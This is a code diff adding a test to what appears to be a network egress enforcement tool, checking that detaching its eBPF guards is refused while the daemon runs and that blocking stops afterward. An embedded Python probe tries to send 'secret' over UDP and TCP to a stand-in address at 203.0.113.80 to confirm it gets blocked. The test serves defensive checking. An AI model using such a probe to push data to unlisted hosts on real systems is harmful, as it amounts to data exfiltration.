@@ -59,6 +59,13 @@ pub(super) fn books() -> Scenario {
     })
 }
 
+/// After everything: what opens the cgroup, and what closes it again.
+pub(super) fn detach() -> Scenario {
+    Scenario::Story("detach opens the cgroup, only when no daemon runs, and a start closes it again", |lab| {
+        Box::pin(detached(lab))
+    })
+}
+
 #[derive(Debug, Deserialize)]
 struct Balance {
     total: Vec<BalanceRow>,
@@ -222,6 +229,77 @@ fn described(took: &[Restart]) -> String {
     format!("to end {}; to be ready {}", span(|restart| restart.ending), span(|restart| restart.starting))
 }
 
+/// Where the lab's settings have the pins.
+const PINS: &str = "/sys/fs/bpf/agentgate";
+
+async fn detached(lab: &mut Lab) -> anyhow::Result<Row> {
+    let mut row = Row::new("", "agentctl detach --yes");
+    enforce(lab, "").await?;
+    let mut client = Client::start(lab, PROBE)?;
+    client.line().await?;
+    let detach = |lab: &Lab| {
+        let mut command = lab.agentctl();
+        command.args(["--json", "detach", "--yes"]).stdin(std::process::Stdio::null());
+        command
+    };
+    let refused = detach(lab).output().await?;
+    let why = String::from_utf8_lossy(&refused.stderr).trim().to_owned();
+    row.expect(!refused.status.success() && why.contains("stop it first"), || {
+        format!("with a daemon: {} {why}", refused.status)
+    });
+    row.expect(fs::read_dir(PINS).is_ok_and(|mut pins| pins.next().is_some()), || "no pins".to_owned());
+    expect_strays(lab, &mut row, &mut client, "with a daemon", false).await?;
+    lab.daemon.take().context("the daemon does not run")?.stop().await?;
+    expect_strays(lab, &mut row, &mut client, "without a daemon", false).await?;
+    let done = detach(lab).output().await?;
+    let said = String::from_utf8_lossy(&done.stdout).into_owned();
+    let complaint = String::from_utf8_lossy(&done.stderr).into_owned();
+    row.expect(done.status.success(), || format!("detach: {} {complaint}", done.status));
+    // Those of the watch and of the LSM hooks are in the same directory.
+    row.expect(fs::symlink_metadata(PINS).is_err(), || format!("{PINS} is still there"));
+    expect_strays(lab, &mut row, &mut client, "detached", true).await?;
+    lab.start_daemon().await?;
+    expect_strays(lab, &mut row, &mut client, "started again", false).await?;
+    client.end().await?;
+    let id = serde_json::from_str::<serde_json::Value>(&said)
+        .ok()
+        .and_then(|said| said.get("record").map(ToString::to_string))
+        .unwrap_or_default();
+    let record = lab.steer(&["show", id.trim_matches('"')]).await?;
+    row.log = record.lines().find(|line| line.contains("detach:")).unwrap_or_default().trim().to_owned();
+    row.expect(row.log.contains("no longer guarded, by uid 0"), || format!("record {id}: {record}"));
+    balanced(lab, &mut row).await?;
+    back(lab).await?;
+    Ok(row)
+}
+
+/// Has the probe send once, and looks whether that arrives where nobody may send.
+async fn expect_strays(
+    lab: &Lab,
+    row: &mut Row,
+    client: &mut Client,
+    when: &str,
+    expected: bool,
+) -> anyhow::Result<()> {
+    let before = lab.internet.journal.snapshot();
+    let said = client.ask().await?;
+    let strays = || strays(&super::super::case::since(&before, lab.internet.journal.snapshot()));
+    if expected {
+        let seen = async {
+            let mut look = tokio::time::interval(Duration::from_millis(20));
+            while strays().len() < 2 {
+                look.tick().await;
+            }
+        };
+        let arrived = timeout(PATIENCE, seen).await.is_ok();
+        row.expect(arrived, || format!("{when}: {said}, arrived: {:?}", strays()));
+    } else {
+        row.expect(strays().is_empty(), || format!("{when}: {said}, arrived: {:?}", strays()));
+    }
+    row.saw(&format!("{when}: {said}"));
+    Ok(())
+}
+
 fn enforcing(more: &str) -> String {
     format!(
         "version = 1\nmode = \"enforce\"\n\n[hosts]\nallow = [\"{OPEN}\"{}{more}]\n",
@@ -274,6 +352,12 @@ impl Client {
     async fn line(&mut self) -> anyhow::Result<String> {
         let line = timeout(PATIENCE, self.lines.next_line()).await.context("the client hangs")??;
         line.context("the client ended")
+    }
+
+    /// Has it do its thing once; what it says of it.
+    async fn ask(&mut self) -> anyhow::Result<String> {
+        self.child.stdin.as_mut().context("stdin")?.write_all(b"\n").await?;
+        self.line().await
     }
 
     async fn end(mut self) -> anyhow::Result<String> {
@@ -364,6 +448,30 @@ sys.stdin.read()
 stop.set()
 for t in threads: t.join(10)
 print(sum(tried.values()), sum(failed.values()), ' '.join(f'{k}={v}' for k, v in tried.items()))
+";
+
+/// For each line, sends a datagram and bytes to an origin that nobody listed.
+const PROBE: &str = r"
+import socket, sys
+def attempt(act):
+    try:
+        act()
+        return 'sent'
+    except OSError as error:
+        return type(error).__name__
+def datagram():
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.sendto(b'secret', ('203.0.113.80', 9999))
+def data():
+    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
+        s.settimeout(3)
+        s.connect(('203.0.113.80', 9000))
+        s.sendall(b'\1\2secret\n')
+        s.recv(1)
+print('begun')
+for line in sys.stdin:
+    print('datagram', attempt(datagram), 'bytes', attempt(data))
+print('ended')
 ";
 
 /// Fetches what is allowed, each time over a connection of its own.
